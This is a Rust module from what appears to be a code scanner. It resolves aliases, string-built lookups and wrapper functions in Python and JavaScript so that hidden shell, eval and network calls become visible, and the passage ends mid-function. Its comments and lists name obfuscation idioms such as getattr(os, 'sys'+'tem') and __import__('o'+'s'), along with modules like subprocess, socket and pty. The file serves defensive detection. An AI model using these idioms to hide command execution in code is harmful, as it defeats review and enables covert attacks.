//! Names resolved and values followed through Python and JavaScript, so
//! that the analyzers in [`crate::script`] see what code does whatever
//! indirection it is written with.
//!
//! [`normalize`] rewrites a file's tokens once, left to right:
//!
//! - imports and aliases become full names (`import subprocess as sp`,
//!   `from os import system as run`, `s = os.system`, `const cp =
//!   require('child_' + 'process')`, `const {exec: e} = require(…)`);
//! - lookups by a string become the name looked up (`getattr(os, 'sys' +
//!   'tem')`, `__import__('o' + 's')`, `importlib.import_module`,
//!   `vars(builtins)['ex' + 'ec']`, `globals()['__builtins__']`,
//!   `global['ev' + 'al']`, `process['binding']`), and are listed
//!   ([`Lookup`]);
//! - string expressions that fold ([`crate::fold`]) become one string
//!   token, and names bound to constants their value;
//! - calls of functions that hand a parameter to a shell, an evaluator or
//!   the network (wrappers: `def run(cmd): subprocess.run(cmd,
//!   shell=True)`) become calls of that sink, wrappers of wrappers too, to
//!   [`ROUNDS`] levels; the same holds for functions and constants of the
//!   skill's other files ([`Modules`]: `from utils import run`,
//!   `require('./lib')`).
//!
//! Each step reads each token a bounded number of times, and folding has a
//! budget linear in the file: normalizing is linear. [`Modules`] reads
//! each code file of a skill twice (once to learn what it exports, once
//! with what the others export), so a chain through files is followed one
//! file deep per read; the last read of each file is kept for its
//! analysis when what it looked up of the others is final
//! ([`Modules::read`]).

use std::cell::RefCell;
use std::collections::{HashMap, HashSet};
use std::ops::Range;

use crate::fold::{Folder, Lang, Scope, dotted_at};
use crate::lex::{self, Kind, Token};

/// How many levels of wrappers around a sink are followed in a file.
pub(crate) const ROUNDS: usize = 4;

/// How a token of the normalized stream came to be.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Origin {
    /// As written.
    Source,
    /// A string folded from an expression or a constant's name, with the
    /// step that hid it best (`None`: only joined from literals).
    Folded(Option<&'static str>),
    /// A name resolved from an alias, a lookup or a wrapper.
    Resolved,
}

/// A function or module reached by a lookup, not by its name.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Lookup {
    /// The lookup in the source.
    pub(crate) span: Range<usize>,
    /// The full name reached (`os.system`, `eval`, `child_process`).
    pub(crate) target: String,
    /// Whether the name was built (concatenated, decoded) rather than
    /// written as one literal.
    pub(crate) computed: bool,
}

/// A call of a wrapper, rewritten as a call of its sink.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Wrapped {
    pub(crate) span: Range<usize>,
    /// The wrapper as called (`run_cmd`, `utils.run`).
    pub(crate) wrapper: String,
}

/// A file's tokens with indirection resolved.
#[derive(Debug, Default)]
pub(crate) struct Norm {
    pub(crate) tokens: Vec<Token>,
    /// Per token: how it came to be.
    pub(crate) origin: Vec<Origin>,
    pub(crate) lookups: Vec<Lookup>,
    pub(crate) wrapped: Vec<Wrapped>,
    /// Constants and aliases at the end of the file.
    scope: Scope,
    /// The names of every function's parameters.
    pub(crate) params: HashSet<String>,
    /// Functions that hand a parameter to a sink, with the sink.
    summaries: HashMap<String, String>,
}

/// What the code files of a skill export: their functions that hand a
/// parameter to a sink, and their constants, by module name (`utils` for
/// `scripts/utils.py`, `lib` for `lib/index.js`).
#[derive(Debug, Default)]
pub(crate) struct Modules {
    by_name: HashMap<String, Exports>,
    /// Each code file's last read, by path, when it is what reading it
    /// with these exports gives.
    read: HashMap<String, Read>,
    /// While [`Modules::of`] reads a file: the modules it looks up.
    asked: RefCell<Option<Vec<String>>>,
}

/// A code file as read: its text and language, its tokens (comments left
/// out) and the same normalized.
#[derive(Debug)]
struct Read {
    lang: Lang,
    text: String,
    raw: Vec<Token>,
    norm: Norm,
}

/// One read of a code file by [`Modules::of`]: the modules it looked up,
/// its normalized tokens and what it exports.
struct Reading {
    asked: Vec<String>,
    norm: Norm,
    own: Exports,
}

impl Reading {
    /// Whether reading the file with `now` gives this reading, made with
    /// `then`: each module it looked up exports the same in both.
    fn holds(&self, then: &Modules, now: &Modules) -> bool {
        self.asked
            .iter()
            .all(|m| then.by_name.get(m) == now.by_name.get(m))
    }
}

#[derive(Debug, Default, PartialEq)]
struct Exports {
    sinks: HashMap<String, String>,
    consts: HashMap<String, String>,
}

impl Modules {
    /// The exports of the code files among `files` (path and bytes), each
    /// file read twice: what it exports alone, then with what the others
    /// export. Files over `max_bytes` are left out.
    /// Whether [`Modules::of`] reads the file at `path` (a module of a
    /// language whose imports are followed).
    pub(crate) fn reads(path: &str) -> bool {
        module_key(path).is_some()
    }

    pub(crate) fn of<'a>(files: &[(&'a str, &'a [u8])], max_bytes: usize) -> Modules {
        let code: Vec<(&str, String, Lang, String)> = files
            .iter()
            .filter(|(_, bytes)| bytes.len() <= max_bytes)
            .filter_map(|(path, bytes)| {
                let (key, lang) = module_key(path)?;
                Some((
                    *path,
                    key,
                    lang,
                    String::from_utf8_lossy(bytes).into_owned(),
                ))
            })
            .collect();
        let lexed: Vec<Vec<Token>> = code
            .iter()
            .map(|(_, _, lang, text)| tokens(text, *lang))
            .collect();
        // The second round reads each file with what the others export;
        // one file alone (most skills) needs only the first.
        let rounds = if code.len() < 2 { 1 } else { 2 };
        // The exports the reads were made with, and those of this round.
        let mut before = Modules::default();
        let mut modules = Modules::default();
        let mut reads: Vec<Option<Reading>> = code.iter().map(|_| None).collect();
        for _ in 0..rounds {
            let mut next = Modules::default();
            for (((_, key, lang, text), raw), slot) in code.iter().zip(&lexed).zip(&mut reads) {
                // A file whose lookups find what they found last round
                // reads the same: normalizing is a function of them.
                let reading = match slot.take() {
                    Some(r) if r.holds(&before, &modules) => r,
                    _ => {
                        modules.asked.replace(Some(Vec::new()));
                        let mut norm = normalize(text, raw, *lang, &modules);
                        let asked = modules.asked.take().unwrap_or_default();
                        let own = Exports {
                            sinks: std::mem::take(&mut norm.summaries),
                            consts: std::mem::take(&mut norm.scope.consts),
                        };
                        Reading { asked, norm, own }
                    }
                };
                let exports = next.by_name.entry(key.clone()).or_default();
                exports.sinks.extend(reading.own.sinks.clone());
                exports.consts.extend(reading.own.consts.clone());
                *slot = Some(reading);
            }
            before = std::mem::replace(&mut modules, next);
        }
        // A read is kept for the analysis if it holds with the final
        // exports.
        for (((path, _, lang, text), raw), reading) in code.into_iter().zip(lexed).zip(reads) {
            if let Some(r) = reading.filter(|r| r.holds(&before, &modules)) {
                modules.read.insert(
                    path.to_string(),
                    Read {
                        lang,
                        text,
                        raw,
                        norm: r.norm,
                    },
                );
            }
        }
        modules
    }

    /// The tokens and normalized tokens of the code file `path` if its
    /// last read is what reading `text` as `lang` with these exports
    /// gives.
    pub(crate) fn read(&self, path: &str, text: &str, lang: Lang) -> Option<(&[Token], &Norm)> {
        self.read
            .get(path)
            .filter(|r| r.lang == lang && r.text == text)
            .map(|r| (r.raw.as_slice(), &r.norm))
    }

    /// Notes that the file being read looks `module` up.
    fn ask(&self, module: &str) {
        if let Some(asked) = self.asked.borrow_mut().as_mut() {
            asked.push(module.to_string());
        }
    }

    fn ships(&self, module: &str) -> bool {
        self.ask(module);
        self.by_name.contains_key(module)
    }

    /// The sink the function `name` of `module` hands a parameter to.
    fn sink(&self, module: &str, name: &str) -> Option<&str> {
        self.ask(module);
        self.by_name
            .get(module)?
            .sinks
            .get(name)
            .map(String::as_str)
    }

    fn constant(&self, module: &str, name: &str) -> Option<&str> {
        self.ask(module);
        self.by_name
            .get(module)?
            .consts
            .get(name)
            .map(String::as_str)
    }
}

/// The module name a file is imported by, and its language.
fn module_key(path: &str) -> Option<(String, Lang)> {
    let (stem_path, ext) = path.rsplit_once('.')?;
    let lang = match ext.to_ascii_lowercase().as_str() {
        "py" | "pyw" => Lang::Python,
        "js" | "mjs" | "cjs" | "ts" | "mts" | "cts" | "jsx" | "tsx" => Lang::Js,
        _ => return None,
    };
    let mut parts = stem_path.rsplit('/');
    let stem = parts.next()?;
    let key = if stem == "__init__" || stem == "index" {
        parts.next()?
    } else {
        stem
    };
    Some((key.to_string(), lang))
}

/// The module name an import names: `pkg.utils` and `.utils` → `utils`,
/// `./lib/helpers.js` → `helpers`; `None` for a package of a registry.
fn imported_module(spec: &str, lang: Lang) -> Option<String> {
    let name = match lang {
        Lang::Python => spec.rsplit('.').next()?,
        Lang::Js => {
            if !spec.starts_with('.') {
                return None;
            }
            let last = spec.trim_end_matches('/').rsplit('/').next()?;
            last.split_once('.').map_or(last, |(stem, _)| stem)
        }
    };
    (!name.is_empty()).then(|| name.to_string())
}

/// The tokens of `text`, comments left out.
pub(crate) fn tokens(text: &str, lang: Lang) -> Vec<Token> {
    let all = match lang {
        Lang::Python => lex::python::python(text),
        Lang::Js => lex::js::js(text),
    };
    all.into_iter()
        .filter(|t| t.kind != Kind::Comment)
        .collect()
}

/// Globals objects of JavaScript: `global['eval']` is `eval`.
const JS_GLOBALS: [&str; 4] = ["global", "globalThis", "window", "self"];

/// Builtin functions an alias may stand for (`e = eval`).
const BUILTINS: [&str; 10] = [
    "eval",
    "exec",
    "compile",
    "__import__",
    "getattr",
    "open",
    "Function",
    "require",
    "fetch",
    "execfile",
];

/// `tokens` of `src` (comments left out) with indirection resolved; names
/// of other files through `modules`.
pub(crate) fn normalize(src: &str, tokens: &[Token], lang: Lang, modules: &Modules) -> Norm {
    let mut n = Normalizer {
        src,
        raw: tokens,
        lang,
        modules,
        folder: Folder::new(src, tokens, lang),
        scope: Scope::default(),
        params: params(tokens, lang),
        imported: HashSet::new(),
        out: Norm::default(),
    };
    n.run();
    let mut norm = n.out;
    norm.scope = n.scope;
    norm.params = n.params;
    wrappers(src, &mut norm, lang, modules);
    norm
}

/// An assignment whose value is being read.
struct Pending {
    /// The names bound: `(key, name)`; the key is `None` for a plain
    /// `name = …`, the property for `const {key: name} = …`.
    names: Vec<(Option<String>, String)>,
    /// Where the value starts in the output.
    start: usize,
    /// `+=`.
    append: bool,
    /// Bracket depth at its start.
    depth: usize,
}

struct Normalizer<'a> {
    src: &'a str,
    raw: &'a [Token],
    lang: Lang,
    modules: &'a Modules,
    folder: Folder<'a>,
    scope: Scope,
    /// Names that are parameters of a function somewhere in the file: not
    /// replaced by a constant of the same name.
    params: HashSet<String>,
    /// Names bound to modules by imports.
    imported: HashSet<String>,
    out: Norm,
}

impl Normalizer<'_> {
    fn push(&mut self, t: Token, origin: Origin) {
        self.out.tokens.push(t);
        self.out.origin.push(origin);
    }

    fn copy(&mut self, i: usize) {
        if let Some(t) = self.raw.get(i) {
            self.push(t.clone(), Origin::Source);
        }
    }

    /// Pushes `name` as dotted identifiers over `span`.
    fn push_name(&mut self, name: &str, span: &Range<usize>, origin: Origin) {
        for (k, part) in name.split('.').enumerate() {
            if k > 0 {
                self.push(
                    Token {
                        kind: Kind::Punct,
                        span: span.clone(),
                        value: ".".into(),
                    },
                    origin,
                );
            }
            self.push(
                Token {
                    kind: Kind::Ident,
                    span: span.clone(),
                    value: part.into(),
                },
                origin,
            );
        }
    }

    fn value(&self, i: usize) -> &str {
        self.raw.get(i).map_or("", |t| t.value.as_str())
    }

    fn is_punct(&self, i: usize, p: &str) -> bool {
        self.raw
            .get(i)
            .is_some_and(|t| t.kind == Kind::Punct && t.value == p)
    }

    fn statement_start(&self, i: usize) -> bool {
        i == 0
            || self.raw.get(i - 1).is_some_and(|p| {
                p.kind == Kind::Newline
                    || (p.kind == Kind::Punct && matches!(p.value.as_str(), ";" | "{" | "}"))
                    || (self.lang == Lang::Js
                        && p.kind == Kind::Ident
                        && matches!(p.value.as_str(), "const" | "let" | "var"))
            })
    }

    fn run(&mut self) {
        let mut pending: Option<Pending> = None;
        let mut depth = 0usize;
        let mut i = 0;
        while i < self.raw.len() {
            let t = &self.raw[i];
            let ends = t.kind == Kind::Newline || (t.kind == Kind::Punct && t.value == ";");
            if ends
                && pending.as_ref().is_some_and(|p| p.depth >= depth)
                && let Some(p) = pending.take()
            {
                self.bind(p);
            }
            if (t.kind == Kind::Ident || t.value == "{") && self.statement_start(i) {
                if matches!(t.value.as_str(), "import" | "from") {
                    i = self.import(i);
                    continue;
                }
                if let Some(p) = self.assignment(i, depth) {
                    if let Some(old) = pending.replace(p.0) {
                        self.bind(old);
                    }
                    i = p.1;
                    continue;
                }
            }
            let next = self.expression(i);
            if next == i + 1 && t.kind == Kind::Punct {
                match t.value.as_str() {
                    "(" | "[" | "{" => depth += 1,
                    ")" | "]" | "}" => depth = depth.saturating_sub(1),
                    _ => {}
                }
            }
            i = next;
        }
        if let Some(p) = pending.take() {
            self.bind(p);
        }
    }

    /// An assignment starting at `i` (`x =`, `x +=`, `{a: b} =`): copied,
    /// and what it binds; the index of its value.
    fn assignment(&mut self, i: usize, depth: usize) -> Option<(Pending, usize)> {
        let t = self.raw.get(i)?;
        if t.kind == Kind::Punct && t.value == "{" && self.lang == Lang::Js {
            return self.destructuring(i, depth);
        }
        if t.kind == Kind::Ident && self.is_punct(i + 1, "=") {
            self.copy(i);
            self.copy(i + 1);
            return Some((
                Pending {
                    names: vec![(None, t.value.clone())],
                    start: self.out.tokens.len(),
                    append: false,
                    depth,
                },
                i + 2,
            ));
        }
        if t.kind == Kind::Ident && self.is_punct(i + 1, "+") && self.is_punct(i + 2, "=") {
            for k in i..i + 3 {
                self.copy(k);
            }
            return Some((
                Pending {
                    names: vec![(None, t.value.clone())],
                    start: self.out.tokens.len(),
                    append: true,
                    depth,
                },
                i + 3,
            ));
        }
        None
    }

    /// `{a, b: c} =` at `i`, after `const`, `let` or `var`.
    fn destructuring(&mut self, i: usize, depth: usize) -> Option<(Pending, usize)> {
        if i == 0 || !matches!(self.value(i - 1), "const" | "let" | "var") {
            return None;
        }
        let mut names = Vec::new();
        let mut k = i + 1;
        loop {
            let t = self.raw.get(k)?;
            match t.value.as_str() {
                "}" => break,
                "," => k += 1,
                _ if t.kind == Kind::Newline => k += 1,
                _ if t.kind == Kind::Ident => {
                    if self.is_punct(k + 1, ":") {
                        let local = self.raw.get(k + 2).filter(|l| l.kind == Kind::Ident)?;
                        names.push((Some(t.value.clone()), local.value.clone()));
                        k += 3;
                    } else {
                        names.push((Some(t.value.clone()), t.value.clone()));
                        k += 1;
                    }
                }
                _ => return None,
            }
            if k - i > 256 {
                return None;
            }
        }
        if !self.is_punct(k + 1, "=") {
            return None;
        }
        for j in i..k + 2 {
            self.copy(j);
        }
        Some((
            Pending {
                names,
                start: self.out.tokens.len(),
                append: false,
                depth,
            },
            k + 2,
        ))
    }

    /// Records what the finished assignment `p` binds.
    fn bind(&mut self, p: Pending) {
        let value = self.out.tokens.get(p.start..).unwrap_or(&[]);
        let value: Vec<&Token> = value.iter().filter(|t| t.kind != Kind::Newline).collect();
        // A literal with fields left unfilled (`f'{x}'`) is no constant.
        let string = match value.as_slice() {
            [only] if only.kind == Kind::Str && !self.unfilled(only) => Some(only.value.clone()),
            _ => None,
        };
        let hidden = match self.out.origin.get(p.start..).unwrap_or(&[]) {
            [Origin::Folded(Some(how)), ..] => Some(*how),
            _ => None,
        };
        let chain = chain_name(&value);
        for (key, name) in p.names {
            let old = self.scope.consts.remove(&name);
            let was_hidden = self.scope.hidden.remove(&name);
            if let Some(how) = hidden.or(was_hidden.filter(|_| p.append)) {
                self.scope.hidden.insert(name.clone(), how);
            }
            self.scope.aliases.remove(&name);
            if self.params.contains(&name) {
                continue;
            }
            match (&string, &chain, key) {
                (Some(s), _, None) if p.append => {
                    if let Some(old) = old
                        && old.len() + s.len() <= crate::fold::MAX_VALUE
                    {
                        self.scope.consts.insert(name, old + s);
                    }
                }
                (Some(s), _, None) => {
                    self.scope.consts.insert(name, s.clone());
                }
                (_, Some(c), key) if !p.append && self.aliasable(c) => {
                    let full = key.map_or_else(|| c.clone(), |k| format!("{c}.{k}"));
                    self.scope.aliases.insert(name, full);
                }
                _ => {}
            }
        }
    }

    /// Whether `t` is an f-string or template literal as written, with its
    /// fields unfilled.
    fn unfilled(&self, t: &Token) -> bool {
        let raw = self.src.get(t.span.clone()).unwrap_or("");
        let quote = raw.find(['\'', '"']).unwrap_or(0);
        let prefix = raw.get(..quote).unwrap_or("");
        (raw.starts_with('`') && t.value.contains("${"))
            || (prefix.contains(['f', 'F']) && t.value.contains('{'))
    }

    /// Whether a name may be aliased: a module imported here, or a
    /// function of one, or a builtin that runs code.
    fn aliasable(&self, chain: &str) -> bool {
        let root = chain.split('.').next().unwrap_or(chain);
        self.imported.contains(root) || BUILTINS.contains(&chain) || JS_GLOBALS.contains(&root)
    }

    /// An import statement at `i`: copied, its names bound; the index
    /// after it.
    fn import(&mut self, i: usize) -> usize {
        let mut end = i;
        let mut depth = 0usize;
        while let Some(t) = self.raw.get(end) {
            match t.value.as_str() {
                "{" | "(" => depth += 1,
                "}" | ")" => depth = depth.saturating_sub(1),
                ";" => break,
                _ if t.kind == Kind::Newline && depth == 0 => break,
                _ => {}
            }
            end += 1;
            if end - i > 4096 {
                break;
            }
        }
        let stmt: Vec<&Token> = self
            .raw
            .get(i..end)
            .unwrap_or(&[])
            .iter()
            .filter(|t| t.kind != Kind::Newline)
            .collect();
        match self.lang {
            Lang::Python => self.python_import(&stmt),
            Lang::Js => self.js_import(&stmt),
        }
        for k in i..end {
            self.copy(k);
        }
        end
    }

    fn python_import(&mut self, stmt: &[&Token]) {
        let words: Vec<&str> = stmt
            .iter()
            .filter(|t| t.value != "(" && t.value != ")")
            .map(|t| t.value.as_str())
            .collect();
        let (module, names) = match words.as_slice() {
            ["from", rest @ ..] => {
                let at = rest
                    .iter()
                    .position(|w| *w == "import")
                    .unwrap_or(rest.len());
                (Some(rest[..at].concat()), rest.get(at + 1..).unwrap_or(&[]))
            }
            ["import", rest @ ..] => (None, rest),
            _ => return,
        };
        // `a.b as c, d` split at commas.
        for item in names.split(|w| *w == ",") {
            let (path, alias) = match item {
                [path @ .., "as", alias] => (path.concat(), Some(*alias)),
                path => (path.concat(), None),
            };
            if path.is_empty() || path == "*" {
                continue;
            }
            match &module {
                Some(m) => {
                    let bare = m.trim_start_matches('.');
                    let local = alias.unwrap_or(&path).to_string();
                    let full = if bare.is_empty() {
                        // `from . import utils`: the module itself.
                        path.clone()
                    } else if let Some(key) =
                        imported_module(m, Lang::Python).filter(|k| self.modules.ships(k))
                    {
                        format!("{key}.{path}")
                    } else {
                        format!("{bare}.{path}")
                    };
                    let root = bare.split('.').next().unwrap_or(bare);
                    if bare.is_empty()
                        || self
                            .modules
                            .ships(&imported_module(m, Lang::Python).unwrap_or_default())
                        || INTERESTING.contains(&root)
                    {
                        self.imported.insert(local.clone());
                        self.scope.aliases.insert(local, full);
                    }
                }
                None => {
                    let root = path.split('.').next().unwrap_or(&path).to_string();
                    match alias {
                        Some(a) => {
                            let full = imported_module(&path, Lang::Python)
                                .filter(|k| self.modules.ships(k))
                                .unwrap_or(path.clone());
                            self.imported.insert(a.to_string());
                            self.scope.aliases.insert(a.to_string(), full);
                        }
                        None => {
                            self.imported.insert(root);
                        }
                    }
                }
            }
        }
    }

    fn js_import(&mut self, stmt: &[&Token]) {
        // `import x from 'm'`, `import * as x from 'm'`, `import {a as b} from 'm'`.
        let Some(spec) = stmt.iter().rev().find(|t| t.kind == Kind::Str) else {
            return;
        };
        let module = js_module(&spec.value, self.modules);
        let mut braces = false;
        let mut k = 1;
        while let Some(t) = stmt.get(k) {
            match t.value.as_str() {
                "{" => braces = true,
                "}" => braces = false,
                "from" => break,
                "*" if stmt.get(k + 1).is_some_and(|a| a.value == "as") => {
                    if let Some(name) = stmt.get(k + 2) {
                        self.bind_module(&name.value, &module);
                    }
                    k += 2;
                }
                _ if t.kind == Kind::Ident && t.value != "type" => {
                    let (local, skip) = if stmt.get(k + 1).is_some_and(|a| a.value == "as") {
                        (stmt.get(k + 2).map_or("", |a| a.value.as_str()), 2)
                    } else {
                        (t.value.as_str(), 0)
                    };
                    if braces {
                        let full = format!("{module}.{}", t.value);
                        self.imported.insert(local.to_string());
                        self.scope.aliases.insert(local.to_string(), full);
                    } else {
                        self.bind_module(local, &module);
                    }
                    k += skip;
                }
                _ => {}
            }
            k += 1;
        }
    }

    fn bind_module(&mut self, local: &str, module: &str) {
        self.imported.insert(local.to_string());
        self.scope
            .aliases
            .insert(local.to_string(), module.to_string());
    }

    /// The expression token at `i`: a folded string, a resolved lookup, an
    /// alias's full name, or the token as written; the index after it.
    fn expression(&mut self, i: usize) -> usize {
        let Some(t) = self.raw.get(i) else {
            return i + 1;
        };
        let after_dot = i > 0 && self.is_punct(i - 1, ".");
        let defines = i > 0
            && matches!(
                self.value(i - 1),
                "def" | "function" | "class" | "const" | "let" | "var"
            );
        let target = self.is_punct(i + 1, "=");
        if t.kind == Kind::Str
            || (t.kind == Kind::Ident && !after_dot && !defines && !target && !self.is_param(i))
        {
            if t.kind == Kind::Ident
                && let Some(next) = self.method_caller(i)
            {
                return next;
            }
            if t.kind == Kind::Ident
                && let Some((name, end, computed, looked)) = self.lookup(i, 0)
            {
                let span = t.span.start..self.raw.get(end - 1).map_or(t.span.end, |e| e.span.end);
                if looked || computed {
                    self.out.lookups.push(Lookup {
                        span: span.clone(),
                        target: name.clone(),
                        computed,
                    });
                }
                self.push_name(&name, &span, Origin::Resolved);
                return end;
            }
            if let Some(f) = self.folder.fold(i, &self.scope)
                && !self.is_punct(f.end, "(")
            {
                let single = f.end == i + 1 && t.kind == Kind::Str && f.value == t.value;
                if !single {
                    let end_span = self.raw.get(f.end - 1).map_or(t.span.end, |e| e.span.end);
                    self.push(
                        Token {
                            kind: Kind::Str,
                            span: t.span.start..end_span.max(t.span.start),
                            value: f.value,
                        },
                        Origin::Folded(f.hidden),
                    );
                    return f.end;
                }
            }
            if t.kind == Kind::Ident {
                let (name, end) = dotted_at(self.raw, i);
                let full = self.scope.canonical(&name);
                if let Some(value) = self.exported(&full) {
                    let value = value.to_string();
                    if self.folder.afford(value.len()) {
                        let span =
                            t.span.start..self.raw.get(end - 1).map_or(t.span.end, |e| e.span.end);
                        self.push(
                            Token {
                                kind: Kind::Str,
                                span,
                                value,
                            },
                            Origin::Folded(None),
                        );
                        return end;
                    }
                }
                if let Some(full) = self.scope.aliases.get(&t.value).cloned() {
                    self.push_name(&full, &t.span, Origin::Resolved);
                    return i + 1;
                }
            }
        }
        self.copy(i);
        i + 1
    }

    /// A constant another file exports under the full name `full`
    /// (`config.URL`).
    fn exported(&self, full: &str) -> Option<&str> {
        let (module, name) = full.rsplit_once('.')?;
        self.modules.constant(module, name)
    }

    fn is_param(&self, i: usize) -> bool {
        self.raw.get(i).is_some_and(|t| {
            self.params.contains(&t.value) && !self.scope.aliases.contains_key(&t.value)
        })
    }

    /// The name a reference at `i` reaches when it is looked up by a string
    /// (or imported by a call), the index after it, whether the string was
    /// built, and whether it was a lookup (not an import); `None` when
    /// neither is in it.
    fn lookup(&mut self, i: usize, nesting: usize) -> Option<(String, usize, bool, bool)> {
        if nesting > 4 {
            return None;
        }
        let (name, mut end) = dotted_at(self.raw, i);
        let full = self.scope.canonical(&name);
        let mut computed = false;
        let mut looked = false;
        let mut imports = false;
        // Whether the current value is a namespace whose items are names.
        let mut space;
        let mut cur: String;
        let call = self.is_punct(end, "(");
        match (self.lang, full.as_str()) {
            (Lang::Python, "getattr") if call => {
                let (base, after) = match self.lookup(end + 1, nesting + 1) {
                    Some((b, e, c, _)) => {
                        computed |= c;
                        (b, e)
                    }
                    None => {
                        let (b, e) = dotted_at(self.raw, end + 1);
                        (self.scope.canonical(&b), e)
                    }
                };
                if !self.is_punct(after, ",") {
                    return None;
                }
                let (key, key_end, built) = self.key(after + 1)?;
                computed |= built;
                let close = self.close_of_call(key_end)?;
                cur = join(&base, &key);
                space = false;
                looked = true;
                end = close;
            }
            (Lang::Python, "__import__" | "importlib.import_module") | (Lang::Js, "require")
                if call =>
            {
                let (key, key_end, built) = self.key(end + 1)?;
                computed |= built;
                end = self.close_of_call(key_end)?;
                cur = match self.lang {
                    Lang::Js => js_module(&key, self.modules),
                    Lang::Python => key,
                };
                self.imported
                    .insert(cur.split('.').next().unwrap_or("").to_string());
                space = false;
                looked = computed;
                imports = true;
            }
            (Lang::Python, "operator.attrgetter") if call => {
                // `operator.attrgetter('system')(os)`.
                let (key, key_end, built) = self.key(end + 1)?;
                let close = self.close_of_call(key_end)?;
                if !self.is_punct(close, "(") {
                    return None;
                }
                let (b, e) = dotted_at(self.raw, close + 1);
                if !self.is_punct(e, ")") {
                    return None;
                }
                computed |= built;
                cur = join(&self.scope.canonical(&b), &key);
                space = false;
                looked = true;
                end = e + 1;
            }
            (Lang::Python, "vars") if call => {
                let (b, e) = dotted_at(self.raw, end + 1);
                if !self.is_punct(e, ")") {
                    return None;
                }
                cur = self.scope.canonical(&b);
                space = true;
                end = e + 1;
            }
            (Lang::Python, "globals" | "locals") if call && self.is_punct(end + 1, ")") => {
                cur = String::new();
                space = true;
                end += 2;
            }
            (Lang::Python, "__builtins__" | "builtins") => {
                cur = "builtins".into();
                space = true;
            }
            (Lang::Python, "sys.modules") => {
                cur = String::new();
                space = true;
            }
            (Lang::Js, g) if JS_GLOBALS.contains(&g) => {
                cur = String::new();
                space = true;
            }
            (Lang::Js, f) => {
                let root = f.split('.').next().unwrap_or(f);
                cur = f.to_string();
                space = self.imported.contains(root)
                    || root == "process"
                    || self.scope.aliases.contains_key(root);
            }
            (Lang::Python, f) if f.ends_with(".__dict__") => {
                cur = f.trim_end_matches(".__dict__").to_string();
                space = true;
            }
            (Lang::Python, f) => {
                cur = f.to_string();
                space = false;
            }
        }
        // What follows: `.name`, `.__dict__`, `['name']`.
        loop {
            if self.is_punct(end, ".")
                && let Some(n) = self.raw.get(end + 1).filter(|t| t.kind == Kind::Ident)
            {
                if n.value == "__dict__" {
                    space = true;
                } else {
                    cur = join(&cur, &n.value);
                    space = self.lang == Lang::Js && space;
                }
                end += 2;
                continue;
            }
            if space && self.is_punct(end, "[") {
                let Some((key, key_end, built)) = self.key(end + 1) else {
                    break;
                };
                if !self.is_punct(key_end, "]") {
                    break;
                }
                computed |= built;
                looked = true;
                cur = join(&cur, &key);
                if cur == "__builtins__" || cur == "builtins.__builtins__" {
                    cur = "builtins".into();
                } else {
                    space = self.lang == Lang::Js;
                }
                end = key_end + 1;
                continue;
            }
            break;
        }
        if !looked && !imports {
            return None;
        }
        let cur = cur.strip_prefix("builtins.").unwrap_or(&cur).to_string();
        if cur.is_empty() || cur == "builtins" {
            return None;
        }
        Some((cur, end, computed, looked))
    }

    /// `operator.methodcaller('popen', cmd)` at `i`, when the method is one
    /// of `os` or `subprocess` that runs a command: rewritten as a call of
    /// it (`os.popen(cmd)`); the index of its further arguments.
    fn method_caller(&mut self, i: usize) -> Option<usize> {
        let (name, end) = dotted_at(self.raw, i);
        if self.lang != Lang::Python
            || self.scope.canonical(&name) != "operator.methodcaller"
            || !self.is_punct(end, "(")
        {
            return None;
        }
        let (key, key_end, computed) = self.key(end + 1)?;
        let module = match key.as_str() {
            "system" | "popen" | "execv" | "execve" | "execl" | "execlp" | "execvp"
            | "startfile" => "os",
            "run" | "call" | "check_call" | "check_output" | "Popen" | "getoutput"
            | "getstatusoutput" => "subprocess",
            _ => return None,
        };
        let target = format!("{module}.{key}");
        let t = self.raw.get(i)?;
        let span = t.span.start..self.raw.get(key_end)?.span.end;
        self.out.lookups.push(Lookup {
            span: span.clone(),
            target: target.clone(),
            computed,
        });
        self.push_name(&target, &span, Origin::Resolved);
        self.push(
            Token {
                kind: Kind::Punct,
                span,
                value: "(".into(),
            },
            Origin::Resolved,
        );
        // Past the comma: the command is the first argument now.
        Some(if self.is_punct(key_end, ",") {
            key_end + 1
        } else {
            key_end
        })
    }

    /// A string key at `i`: its value, the index after it, and whether it
    /// was built rather than one literal.
    fn key(&mut self, i: usize) -> Option<(String, usize, bool)> {
        let f = self.folder.fold(i, &self.scope)?;
        if !self
            .raw
            .get(f.end)
            .is_some_and(|t| matches!(t.value.as_str(), ")" | "," | "]"))
        {
            return None;
        }
        let literal = f.end == i + 1 && self.raw.get(i).is_some_and(|t| t.kind == Kind::Str);
        let valid = !f.value.is_empty()
            && f.value.len() <= 128
            && f.value
                .chars()
                .all(|c| c.is_alphanumeric() || matches!(c, '_' | '.' | '$' | ':' | '/' | '-'));
        valid.then_some((f.value, f.end, !literal))
    }

    /// The index after the `)` closing a call whose arguments continue at
    /// `i` (further arguments skipped).
    fn close_of_call(&self, i: usize) -> Option<usize> {
        let mut depth = 0usize;
        for (k, t) in self.raw.iter().enumerate().skip(i).take(256) {
            match t.value.as_str() {
                "(" | "[" | "{" => depth += 1,
                ")" if depth == 0 => return Some(k + 1),
                ")" | "]" | "}" => depth = depth.saturating_sub(1),
                _ => {}
            }
        }
        None
    }
}

/// Python modules whose names are aliased when imported from (`from os
/// import system as run`).
const INTERESTING: [&str; 24] = [
    "os",
    "subprocess",
    "sys",
    "builtins",
    "importlib",
    "requests",
    "urllib",
    "http",
    "httpx",
    "socket",
    "base64",
    "codecs",
    "binascii",
    "zlib",
    "pickle",
    "marshal",
    "shutil",
    "pty",
    "commands",
    "ctypes",
    "aiohttp",
    "smtplib",
    "ftplib",
    "asyncio",
];

/// The full name a JavaScript module specifier stands for: a file of the
/// skill by its module name, else the package (`node:` dropped).
fn js_module(spec: &str, modules: &Modules) -> String {
    if let Some(key) = imported_module(spec, Lang::Js).filter(|k| modules.ships(k)) {
        return key;
    }
    spec.strip_prefix("node:").unwrap_or(spec).to_string()
}

fn join(base: &str, key: &str) -> String {
    if base.is_empty() {
        key.to_string()
    } else {
        format!("{base}.{key}")
    }
}

/// The dotted name `tokens` are exactly (`a . b . c`), if they are one.
fn chain_name(tokens: &[&Token]) -> Option<String> {
    let mut out = String::new();
    for (k, t) in tokens.iter().enumerate() {
        let ok = if k % 2 == 0 {
            t.kind == Kind::Ident
        } else {
            t.kind == Kind::Punct && t.value == "."
        };
        if !ok {
            return None;
        }
